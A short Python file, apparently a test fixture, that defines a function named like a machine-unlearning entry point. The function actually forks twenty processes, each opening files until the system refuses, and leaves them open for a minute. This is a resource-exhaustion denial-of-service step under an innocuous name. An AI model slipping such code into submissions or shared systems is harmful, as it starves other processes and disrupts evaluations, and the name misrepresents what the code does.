"""Opens files in twenty processes until refused, and leaves them open; all must be closed after its end."""

import os
import time


def unlearning(net, retain, forget, val):
    ready, tell = os.pipe()
    for _ in range(20):
        if os.fork() == 0:
            try:
                while True:
                    os.open("/dev/null", os.O_RDONLY)
            except OSError:
                os.write(tell, b"x")
            time.sleep(60)
    for _ in range(20):
        os.read(ready, 1)
